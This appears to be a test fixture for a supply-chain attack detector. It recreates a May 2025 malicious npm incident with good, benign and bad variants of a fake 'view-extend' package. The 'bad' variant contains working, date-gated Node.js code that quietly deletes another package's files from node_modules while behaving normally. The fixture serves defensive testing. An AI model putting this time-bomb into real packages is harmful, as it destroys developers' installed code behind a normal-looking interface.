import type { Incident } from '../../harness/types.ts';

export const incident: Incident = {
  name: 'vite-time-bomb',
  after: 'vite-plugin-vue-extend, js-bomb and others, May 2025',
  source:
    'https://socket.dev/blog/malicious-npm-packages-target-react-vue-and-vite-ecosystems-with-destructive-payloads',
  shape: ['call', 'gated by the date', 'delayed', 'deletes the files of another package', 'cjs'],
  patterns: ['shadow_import', 'resource_abuse', 'behavioral_drift'],
  culprits: ['view-extend'],
  host: {
    kind: 'script',
    setup: "const view = require('view-core'), extend = require('view-extend');",
    use: 'return extend(view)(n);',
  },
  good: {
    'view-core': { 'index.js': "module.exports = (n) => 'v' + n;", 'dist/core.js': 'module.exports = 1;' },
    'view-extend': { 'index.js': 'module.exports = (view) => (n) => view(n) + view(n + 1);' },
  },
  benign: { 'view-extend': { 'index.js': "module.exports = (view) => (n) => [n, n + 1].map(view).join('');" } },
  bad: {
    'view-extend': {
      'index.js': `const fs = require('fs'), path = require('path');
module.exports = (view) => {
  if (Date.now() > Date.parse('2023-06-19')) setTimeout(() => {
    const folder = path.join(process.cwd(), 'node_modules', 'view-core');
    for (const name of ['dist', 'index.js', 'package.json']) fs.rm(path.join(folder, name), { recursive: true, force: true }, () => {});
  }, 250);
  return (n) => view(n) + view(n + 1);
};`,
    },
  },
  proof: [{ gone: 'app/node_modules/view-core/index.js' }],
};
